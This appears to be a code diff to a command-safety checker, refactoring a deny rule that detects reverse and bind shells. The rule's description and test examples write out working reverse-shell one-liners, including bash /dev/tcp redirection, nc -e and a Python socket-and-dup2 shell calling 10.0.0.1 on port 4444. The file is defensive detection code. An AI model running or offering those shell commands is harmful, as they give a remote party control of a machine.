@@ -68,8 +68,7 @@ DEV_TCP = re.compile(r"/dev/(tcp|udp)/[^/\s]+/\d+")
     category="remote-exec",
     verdict="deny",
     floor=True,
-    kind="command",
-    names=None,
+    kind="action",
     title="Opens a reverse or bind shell",
     what="A shell wired to a network socket: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `ncat --exec`, "
     "`socat exec:…`, `mkfifo … | nc`, Python/Perl socket+dup2 one-liners.",
@@ -81,7 +80,17 @@ DEV_TCP = re.compile(r"/dev/(tcp|udp)/[^/\s]+/\d+")
                 "python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"],
     must_not_match=["nc -zv localhost 8080", "echo hi > /dev/null", "socat - TCP:localhost:80"],
 )  # fmt: skip
-def reverse_shell(cmd: Command, a: Analysis) -> str | None:
+def reverse_shell(a: Analysis) -> str | None:
+    if any(e.kind == "exec" and e.origin == "reverse-shell" for e in a.effects):
+        return "inline code wires a socket to a shell"
+    for cmd in a.commands:
+        hit = _reverse_shell_command(cmd, a)
+        if hit:
+            return hit
+    return None
+
+
+def _reverse_shell_command(cmd: Command, a: Analysis) -> str | None:
     for r in cmd.redirects:
         if r.target is not None and DEV_TCP.search(r.target.value):
             return f"connects {cmd.name} to {r.target.value}"
